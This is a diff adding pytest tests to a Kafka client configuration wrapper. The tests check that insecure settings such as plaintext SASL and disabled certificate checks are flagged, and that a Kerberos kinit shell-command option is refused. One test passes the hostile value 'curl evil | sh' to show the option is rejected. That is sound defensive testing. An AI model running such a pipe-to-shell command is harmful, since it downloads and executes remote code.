@@ -571,3 +571,27 @@ def test_passwords_in_a_clients_text_are_masked_even_if_unknown() -> None:
 
 def _silent() -> logging.Logger:
     return logging.Logger("silent", level=logging.CRITICAL + 1)
+
+
+@pytest.mark.parametrize(
+    ("properties", "told"),
+    [
+        ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "PLAIN"}, "password goes over the network"),
+        ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "OAUTHBEARER"}, "token goes over the network"),
+        ({"security.protocol": "ssl", "enable.ssl.certificate.verification": "false"}, "are not checked"),
+        ({"security.protocol": "sasl_ssl", "ssl.endpoint.identification.algorithm": "none"}, "Any certificate"),
+        ({"sasl.oauthbearer.token.endpoint.url": "http://idp/token"}, "token endpoint in plain text"),
+        ({"security.protocol": "sasl_plaintext", "sasl.mechanism": "SCRAM-SHA-256"}, None),
+        ({"security.protocol": "sasl_ssl", "sasl.mechanism": "PLAIN"}, None),
+    ],
+)
+def test_what_others_can_read_is_told(properties: dict[str, str], told: str | None) -> None:
+    risks = ClientConfig(tuple(properties.items())).risks
+    assert len(risks) == (told is not None)
+    assert (told or "") in "".join(risks)
+
+
+def test_a_command_for_a_shell_is_rejected() -> None:
+    with pytest.raises(InvalidOption, match=r"kinit\.cmd' is refused: it runs a command in a shell"):
+        _config(sasl_kerberos_kinit_cmd="curl evil | sh")
+    assert "sasl.kerberos.kinit.cmd" in _config(sasl_kerberos_kinit_cmd="/usr/bin/kinit").ignored
